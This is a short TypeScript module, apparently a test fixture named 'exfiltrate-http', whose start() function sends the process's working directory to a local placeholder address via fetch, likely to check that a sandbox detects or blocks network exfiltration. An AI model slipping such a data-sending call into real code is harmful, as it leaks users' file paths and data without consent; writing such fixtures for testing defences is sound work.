/**
 * exfiltrate-http: sends it as a request of the web.
 */
export function start(): any {
  void (globalThis as any).fetch('http://127.0.0.1:@PORT@/?took=' + (globalThis as any).process.cwd());
  return {};
}

export function step(): any {
  return [];
}
